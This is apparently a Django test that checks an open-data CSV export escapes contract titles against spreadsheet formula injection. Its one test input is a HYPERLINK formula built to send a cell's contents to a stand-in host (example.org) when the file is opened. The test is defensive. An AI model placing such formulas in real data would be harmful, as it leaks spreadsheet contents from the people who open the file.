"""The open data's CSV keeps every title as text: a contract titled like a formula is not run
by the spreadsheet that opens the file (formula injection, #28)."""

import csv
import io

from django.urls import reverse


def test_a_title_that_looks_like_a_formula_stays_text_in_the_csv(client, bretagne):
    contract = bretagne.communes["56152"].territories.get().contracts.get()
    contract.title = '=HYPERLINK("http://example.org/?"&A1,"Voir")'
    contract.save(update_fields=["title"])

    response = client.get(reverse("open_data_csv"), {"region": "53"})

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    titles = {row["identifiant"]: row["intitule"] for row in rows}
    assert titles[str(contract.pk)] == "'" + contract.title
